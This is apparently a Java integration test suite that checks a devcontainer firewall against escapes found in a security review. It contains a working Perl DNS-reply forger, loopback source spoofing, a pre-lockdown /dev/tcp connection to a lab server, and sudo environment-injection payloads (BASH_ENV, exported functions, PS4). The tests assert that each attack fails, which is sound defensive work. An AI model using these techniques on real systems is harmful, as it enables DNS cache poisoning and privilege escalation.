package dev.claudedevc.firewall;

import static dev.claudedevc.firewall.FirewallLab.Server.BLOCKED;
import static dev.claudedevc.firewall.FirewallLab.Server.LITERAL;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.claudedevc.firewall.DevContainer.Exec;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.parallel.Execution;
import org.junit.jupiter.api.parallel.ExecutionMode;

/**
 * Escapes found in a security review, each tried by the non-root user in a fresh devcontainer of the enforce
 * image: forged resolver replies, the firewall's lock, and a base image whose sudoers lets the caller choose the
 * firewall's environment. Traffic stays inside the devcontainer or goes to the lab's servers.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class FirewallEscapesIT {

    /**
     * Forges the upstream resolver's reply to dnsmasq's pending query: perl (in every Debian image), a UDP socket
     * bound with IPV6_FREEBIND (no privilege needed) to the upstream's address and port 53, every query id sent to
     * each of dnsmasq's forwarding ports (world-readable in /proc/net/udp6) on this container's own addresses.
     * Args: upstream (IPv6), name, the address to forge (IPv4), dnsmasq's uid. Prints how many datagrams left.
     */
    private static final String FORGE_REPLY = """
            use strict; use warnings; use Socket qw(:all);
            my ($up, $name, $ip, $uid) = @ARGV;
            my %ports;
            for my $try (1 .. 250) {
              open my $fh, '<', '/proc/net/udp6' or die;
              <$fh>;
              while (<$fh>) {
                my @f = split;
                my (undef, $p) = split /:/, $f[1];
                $ports{hex $p} = 1 if $f[7] == $uid && hex($p) != 53;
              }
              close $fh;
              last if %ports;
              select undef, undef, undef, 0.02;
            }
            die 'no pending query' unless %ports;
            my @dsts;
            open my $ifs, '<', '/proc/net/if_inet6' or die;
            while (<$ifs>) {
              my @f = split;
              push @dsts, join(':', unpack('(A4)*', $f[0])) unless $f[5] eq 'lo' || $f[0] =~ /^fe80/;
            }
            my $q = join('', map { chr(length $_) . $_ } split /[.]/, $name) . chr(0) . pack('nn', 1, 1);
            my $answer = pack('nnnNn', 0xc00c, 1, 1, 60, 4) . inet_aton($ip);
            socket(my $s, AF_INET6, SOCK_DGRAM, 0) or die;
            setsockopt($s, 41, 78, 1) or die "IPV6_FREEBIND: $!";
            bind($s, pack_sockaddr_in6(53, inet_pton(AF_INET6, $up))) or die "bind: $!";
            for my $port (keys %ports) {
              next if fork();
              my $sent = 0;
              for my $d (@dsts) {
                my $to = pack_sockaddr_in6($port, inet_pton(AF_INET6, $d));
                for my $id (0 .. 65535) {
                  $sent++ if send($s, pack('n6', $id, 0x8180, 1, 1, 0, 0) . $q . $answer, 0, $to);
                }
              }
              print "forged to port $port: $sent sent; ";
              exit 0;
            }
            1 while wait() > 0;
            """;

    private FirewallLab lab;

    @BeforeAll
    void lab() {
        lab = FirewallLab.shared();
    }

    @Test
    @Execution(ExecutionMode.CONCURRENT)
    void aForgedReplyFromAnIpv6UpstreamResolverAddsNothingToTheAllowSets() {
        try (DevContainer dev = lab.start(FirewallLab.Variant.ENFORCE)) {
            // An IPv6 upstream (as Docker's default bridge copies the host's): a lab server that runs no resolver,
            // so dnsmasq's query stays pending while the user forges the answer.
            dev.asRoot("printf 'nameserver %s\\noptions ndots:0\\n' \"$1\" > /etc/resolv.conf", lab.v6(LITERAL))
                    .succeeds();
            dev.applyFirewall();
            assertTrue(dev.status().out().contains("upstream=" + lab.v6(LITERAL) + "\n"), dev.status()::text);
            dev.connect4(lab.v4(BLOCKED), 443).isRejected();

            // A few rounds: dnsmasq may open a new forwarding socket for a query after the ports were read.
            Exec forged = dev.asUser("""
                    for round in 1 2 3; do
                      dig +time=8 +tries=1 allowed.test A > /tmp/forged.dig 2>&1 & dig=$!
                      sleep 0.5
                      perl -e "$1" "$2" allowed.test "$3" "$(id -u claude-devc-dns)"
                      wait "$dig"
                      echo; cat /tmp/forged.dig
                      grep -q "IN[[:space:]]*A[[:space:]]*$3" /tmp/forged.dig && break
                    done
                    true
                    """, FORGE_REPLY, lab.v6(LITERAL), lab.v4(BLOCKED));
            assertFalse(forged.out().matches("(?s).*allowed[.]test[.]\\s+\\d+\\s+IN\\s+A\\s+"
                    + lab.v4(BLOCKED).replace(".", "[.]") + ".*"), forged::text);
            dev.connect4(lab.v4(BLOCKED), 443).isRejected();
            String sets = dev.asRoot("ipset list | grep -xF \"$1\" || true", lab.v4(BLOCKED)).out();
            assertEquals("", sets, forged::text);
        }
    }

    /**
     * Sends one datagram from a given loopback source (address and port) to a UDP port on 127.0.0.1.
     * Args: family (4 or 6), source address, source port, destination port, payload.
     */
    private static final String SEND_FROM = """
            use strict; use warnings; use Socket qw(:all);
            my ($fam, $src, $sport, $dport, $text) = @ARGV;
            my ($af, $from, $to) = $fam == 4
              ? (AF_INET, pack_sockaddr_in($sport, inet_aton($src)), pack_sockaddr_in($dport, inet_aton('127.0.0.1')))
              : (AF_INET6, pack_sockaddr_in6($sport, inet_pton(AF_INET6, $src)),
                 pack_sockaddr_in6($dport, inet_pton(AF_INET6, '::1')));
            socket(my $s, $af, SOCK_DGRAM, 0) or die "socket: $!";
            bind($s, $from) or die "bind $src:$sport: $!";
            print defined(send($s, $text, 0, $to)) ? "sent $text\n" : "send $text: $!\n";
            """;

    /** Receives datagrams on 127.0.0.1 and ::1 for a few seconds, printing each. Args: port. */
    private static final String RECEIVE = """
            use strict; use warnings; use Socket qw(:all);
            my $port = shift;
            socket(my $a, AF_INET, SOCK_DGRAM, 0) or die;
            bind($a, pack_sockaddr_in($port, inet_aton('127.0.0.1'))) or die "bind: $!";
            socket(my $b, AF_INET6, SOCK_DGRAM, 0) or die;
            bind($b, pack_sockaddr_in6($port, inet_pton(AF_INET6, '::1'))) or die "bind: $!";
            $| = 1;
            my $end = time + 8;
            while (time < $end) {
              my $in = ''; vec($in, fileno($a), 1) = 1; vec($in, fileno($b), 1) = 1;
              next unless select(my $out = $in, undef, undef, 0.2);
              for my $s ($a, $b) { if (vec($out, fileno($s), 1)) { my $m; recv($s, $m, 100, 0); print "$m\n" } }
            }
            """;

    @Test
    @Execution(ExecutionMode.CONCURRENT)
    void theUserCannotSendFromTheDnsPortOnLoopback() {
        // Docker's embedded resolver (127.0.0.11) is reached over loopback; its NAT sends the queries to a random
        // port, so 127.0.0.11:53 itself is free and any user may bind it (ip_unprivileged_port_start=0). Replies
        // forged from there are what dnsmasq takes as the upstream's (a loopback upstream such as 127.0.0.2 could
        // even be answered by whoever binds it first). The root listener stands in for dnsmasq; the controls show
        // the same path works from any other port. (::1 port 53 is dnsmasq's own.)
        try (DevContainer dev = lab.start(FirewallLab.Variant.ENFORCE)) {
            dev.applyFirewall().succeeds();
            dev.asRoot("nohup perl -e \"$1\" 5399 > /tmp/received 2>&1 &", RECEIVE).succeeds();
            dev.asRoot("sleep 0.5").succeeds();
            Exec sent = dev.asUser("""
                    perl -e "$1" 4 127.0.0.11 53 5399 forged-docker-dns
                    perl -e "$1" 4 127.0.0.2 53 5399 forged-loopback
                    perl -e "$1" 4 127.0.0.11 5300 5399 control-docker-dns
                    perl -e "$1" 6 ::1 5300 5399 control-ipv6
                    true
                    """, SEND_FROM);
            String received = DevContainer.eventually(java.time.Duration.ofSeconds(10), () -> {
                String r = dev.asRoot("cat /tmp/received").out();
                assertTrue(r.contains("control-docker-dns") && r.contains("control-ipv6"), r + "\n" + sent.text());
                return r;
            });
            assertFalse(received.contains("forged"), received + "\n" + sent.text());
            assertTrue(sent.out().contains("sent control-docker-dns"), sent::text);
        }
    }

    @Test
    @Execution(ExecutionMode.CONCURRENT)
    void aConnectionOpenedBeforeTheLockdownDiesAtTheLockdown() {
        // The first milliseconds of a start are unfiltered (so is any moment the tables are open): a connection the
        // agent opens then must not live on once the firewall is in force. A collector on the blocked server
        // records every line that arrives.
        String tag = "early-" + FirewallLab.RUN + "-" + System.nanoTime();
        lab.exec(BLOCKED, "nohup socat TCP4-LISTEN:9000,fork,reuseaddr SYSTEM:'cat >> /tmp/collected' "
                + ">/dev/null 2>&1 &").succeeds();
        try (DevContainer dev = lab.start(FirewallLab.Variant.ENFORCE)) {
            dev.asRoot("iptables -P INPUT ACCEPT && iptables -P OUTPUT ACCEPT && iptables -F").succeeds();
            dev.asUser("""
                    nohup bash -c '
                      trap "" PIPE
                      exec 3<>"/dev/tcp/$0/9000" || exit 1
                      echo "before-$1" >&3 && touch /tmp/opened
                      while [ ! -e /tmp/applied ]; do sleep 0.1; done
                      for i in 1 2 3 4 5; do echo "after-$1-$i" >&3 || echo "write $i failed"; sleep 0.3; done
                      echo finished' "$1" "$2" > /tmp/early.log 2>&1 &
                    """, lab.v4(BLOCKED), tag).succeeds();
            DevContainer.eventually(java.time.Duration.ofSeconds(10),
                    () -> dev.asRoot("test -e /tmp/opened").succeeds());
            dev.applyFirewall().succeeds();
            dev.asRoot("touch /tmp/applied").succeeds();
            String log = DevContainer.eventually(java.time.Duration.ofSeconds(15), () -> {
                String l = dev.asRoot("cat /tmp/early.log").out();
                assertTrue(l.contains("finished"), l);
                return l;
            });
            String collected = lab.exec(BLOCKED, "grep -F \"$1\" /tmp/collected || true", tag).out();
            assertTrue(collected.contains("before-" + tag), "the connection worked while the tables were open: "
                    + collected + "\n" + log);
            assertFalse(collected.contains("after-" + tag), "sent after the lockdown:\n" + collected + "\n" + log);
            dev.assertClosed();
        }
    }

    @Test
    @Execution(ExecutionMode.CONCURRENT)
    void theUserCannotHoldTheFirewallsLock() {
        try (DevContainer dev = lab.start(FirewallLab.Variant.ENFORCE)) {
            // A lock file an old run left readable to all is replaced.
            dev.asRoot("mkdir -p /run/claude-devc && touch /run/claude-devc/apply.lock"
                    + " && chmod 0644 /run/claude-devc/apply.lock").succeeds();
            dev.applyFirewall().succeeds();
            dev.asUser("flock -n /run/claude-devc/apply.lock true").fails();
            assertEquals("600 root\n", dev.asUser("stat -c '%a %U' /run/claude-devc/apply.lock").succeeds().out());
            dev.applyFirewall().succeeds();
        }
    }

    @Test
    @Execution(ExecutionMode.CONCURRENT)
    void theImageRefusesSudoersThatLetTheUserRunMoreOrChooseTheEnvironment() {
        String check = sudoersCheck(lab.generatedFile(FirewallLab.Variant.ENFORCE, "Dockerfile"));
        String firewall = DevContainer.FIREWALL;
        List<String> weakenings = List.of(
                "Defaults:dev setenv",
                "Defaults:dev !env_reset",
                "Defaults env_keep += \"LD_PRELOAD\"",
                "Defaults runchroot=*",
                "Defaults!" + firewall + " setenv",
                "dev ALL=(root) NOPASSWD: SETENV: " + firewall + " \"\"",
                "dev ALL=(root) NOPASSWD: " + firewall,
                "dev ALL=(root) NOPASSWD: " + firewall + " \"\", /usr/bin/ls",
                "%dev ALL=(ALL:ALL) ALL");
        try (DevContainer dev = lab.start(FirewallLab.Variant.ENFORCE)) {
            dev.asRoot("sh -c \"$1\"", check).succeeds();
            List<String> accepted = new ArrayList<>();
            for (String weakening : weakenings) {
                // In the main sudoers file: the image's step first removes what a base image put in sudoers.d.
                Exec r = dev.asRoot("cp -p /etc/sudoers /tmp/sudoers.orig && printf '%s\\n' \"$2\" >> /etc/sudoers"
                        + " && sh -c \"$1\"; rc=$?; cp -p /tmp/sudoers.orig /etc/sudoers; exit $rc", check, weakening);
                if (r.exitCode() == 0) {
                    accepted.add(weakening);
                }
            }
            assertEquals(List.of(), accepted, "the generated Dockerfile's sudoers check accepts these");
        }
    }

    @Test
    @Execution(ExecutionMode.CONCURRENT)
    void environmentASudoersPolicyLetsThroughRunsNothingInTheFirewall() {
        try (DevContainer dev = lab.start(FirewallLab.Variant.ENFORCE)) {
            // What the image check refuses, in case a running container gets it anyway.
            dev.asRoot("echo 'Defaults:dev setenv' > /etc/sudoers.d/zz-weak && chmod 0440 /etc/sudoers.d/zz-weak")
                    .succeeds();
            dev.asUser("""
                    printf '#!/bin/bash\\nid > /tmp/ran-bash-env\\n' > /tmp/env.sh && chmod 0755 /tmp/env.sh
                    sudo -n BASH_ENV=/tmp/env.sh "$1"
                    sudo -n 'BASH_FUNC_iptables-restore%%=() { id > /tmp/ran-function; cat > /dev/null; }' "$1"
                    sudo -n SHELLOPTS=xtrace 'PS4=$(id > /tmp/ran-ps4)' "$1"
                    true
                    """, DevContainer.FIREWALL);
            dev.asRoot("rm /etc/sudoers.d/zz-weak").succeeds();
            Exec ran = dev.asRoot("ls -l /tmp/ran-* 2>/dev/null; true");
            assertEquals("", ran.out(), ran::text);
            dev.assertClosed();
        }
    }

    /** The generated Dockerfile's RUN instruction that installs and checks the sudoers rule, as a shell command. */
    private static String sudoersCheck(String dockerfile) {
        for (String instruction : dockerfile.split("\n(?=[A-Z]+ )")) {
            if (instruction.startsWith("RUN ") && instruction.contains("> /etc/sudoers.d/claude-devc-firewall")) {
                return instruction.substring("RUN ".length()).replaceAll("(?m)^#.*\n", "");
            }
        }
        throw new AssertionError("no sudoers instruction in\n" + dockerfile);
    }
}
